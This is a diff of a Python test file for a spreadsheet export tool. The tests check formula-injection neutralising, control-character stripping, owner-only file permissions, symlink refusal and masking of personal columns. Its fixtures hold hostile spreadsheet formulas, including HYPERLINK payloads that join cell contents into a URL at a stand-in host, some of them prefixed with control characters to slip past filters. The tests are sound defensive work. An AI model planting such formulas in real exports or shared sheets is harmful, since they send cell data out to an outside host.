@@ -1,4 +1,5 @@
-"""Export: OWASP neutralising, masking of personal columns (unit); files via the emulator in test_cli_commands."""
+"""Export: OWASP neutralising, masking of personal columns in every tab, owner-only files, no
+formula in a workbook (unit); files via the emulator in test_cli_commands and test_security_export."""
 
 from __future__ import annotations
 
@@ -8,16 +9,26 @@ from pathlib import Path
 import pytest
 
 from sheetsync.config import load_preset
-from sheetsync.export import MASK, _write_csv, _write_xlsx, mask_rows, neutralise
+from sheetsync.export import MASK, _write_csv, _write_xlsx, mask_rows, unique_names
+from sheetsync.safetext import neutralise
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+62 812", "-3", "@SUM(A1)", "\tx", "\rx",
-                                  '=HYPERLINK("http://evil","klik")'])
+@pytest.mark.parametrize("text", ["=1+1", "+62 812", "-3+1", "@SUM(A1)", "\tx", "\rx",
+                                  '=HYPERLINK("http://evil","klik")', "\n=1+1", " =1+1", "\u3000=1",
+                                  "＝1+1", "＋62", "＠SUM(A1)", "－1+1"])
 def test_formula_starts_are_neutralised(text: str) -> None:
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", ["Kapuk", "12", 12, -3, 1.5, None, "", "a=b"])
+@pytest.mark.parametrize("text, inert", [("\x07=HYPERLINK(\"http://x?d=\"&Q2&P2)", "'=HYPERLINK(\"http://x?d=\"&Q2&P2)"),
+                                         ("\x1b=1+1", "'=1+1"), ("\x1b]0;x\x07=1", "]0;x=1"),
+                                         ("\x9b=1", "'=1")])
+def test_control_characters_are_stripped_before_neutralising(text: str, inert: str) -> None:
+    assert neutralise(text) == inert
+
+
+@pytest.mark.parametrize("value", ["Kapuk", "12", 12, -3, 1.5, None, "", "a=b", "-5", "+62812345", "-1,234.5",
+                                   "-", "Jl. Kapuk - Gg. 3"])
 def test_other_values_untouched(value) -> None:
     assert neutralise(value) == value
 
@@ -49,17 +60,54 @@ def test_csv_and_xlsx_never_hold_a_formula(tmp_path: Path) -> None:
     assert ws["B2"].value == 5
 
 
-def test_files_with_personal_data_are_owner_only_whatever_the_umask(tmp_path: Path) -> None:
+def test_every_export_file_is_owner_only_whatever_the_umask(tmp_path: Path) -> None:
     import os
     import stat
 
     old = os.umask(0o000)
     try:
-        _write_csv(tmp_path / "p.csv", [["a"]], private=True)
-        _write_xlsx(tmp_path / "p.xlsx", {"T": [["a"]]}, None, private=True)
-        _write_csv(tmp_path / "m.csv", [["a"]])
+        _write_csv(tmp_path / "p.csv", [["a"]])
+        _write_xlsx(tmp_path / "p.xlsx", {"T": [["a"]]}, None)
     finally:
         os.umask(old)
     mode = lambda name: stat.S_IMODE((tmp_path / name).stat().st_mode)  # noqa: E731
-    assert mode("p.csv") == 0o600 and mode("p.xlsx") == 0o600
-    assert mode("m.csv") == 0o666                      # masked exports follow the umask
+    assert mode("p.csv") == 0o600 and mode("p.xlsx") == 0o600        # masked or not: a tab may hold names
+
+
+def test_an_export_never_writes_through_a_planted_symlink(tmp_path: Path) -> None:
+    target = tmp_path / "elsewhere.txt"
+    target.write_text("keep")
+    (tmp_path / "x.csv").symlink_to(target)
+    with pytest.raises(OSError):
+        _write_csv(tmp_path / "x.csv", [["a"]])
+    assert target.read_text() == "keep"
+
+
+def test_clashing_names_get_a_suffix() -> None:
+    assert unique_names(["masalah", "masalah", "tps", "masalah"]) == ["masalah", "masalah-2", "tps", "masalah-3"]
+    long = ["R" * 40, "r" * 31]
+    assert unique_names(long, limit=31) == ["R" * 31, "r" * 29 + "-2"]
+
+
+def test_personal_columns_masked_in_any_tab_below_any_header_row() -> None:
+    config = load_preset("pilkada-jakbar-2024")
+    rekap = [["Koordinator", "Kecamatan", "TPS Masuk"], ["Budi Santoso", "Cengkareng", 12]]
+    masked, columns = mask_rows(rekap, config)
+    assert masked[1] == [MASK, "Cengkareng", 12] and columns == ["Koordinator"]
+    english = [["Coordinator", "Kecamatan"], ["Budi Santoso", "Cengkareng"]]
+    assert mask_rows(english, config)[0][1] == [MASK, "Cengkareng"]
+    copied = [["Salinan 27 Nov"], [], ["No TPS", "Saksi", "HP Saksi"], ["1", "Siti", "0812"]]
+    masked, _ = mask_rows(copied, config)
+    assert masked[3] == ["1", MASK, MASK] and masked[:3] == copied[:3]
+
+
+def test_a_workbook_of_hostile_cells_holds_no_formula(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    hostile = ['\x07=HYPERLINK("http://x/?d="&Q2&P2,"klik")', "\x1b=1+1", "=2+2", "-5", 7, 2.5]
+    _write_xlsx(tmp_path / "h.xlsx", {"TPS": [[neutralise(v) for v in hostile], hostile]}, None)
+    ws = load_workbook(tmp_path / "h.xlsx")["TPS"]
+    for row in ws.iter_rows():
+        for cell in row:
+            assert cell.data_type == ("n" if isinstance(cell.value, (int, float)) else "s"), cell.coordinate
+    assert [c.value for c in ws[1]] == ["'=HYPERLINK(\"http://x/?d=\"&Q2&P2,\"klik\")", "'=1+1", "'=2+2", "-5", 7, 2.5]
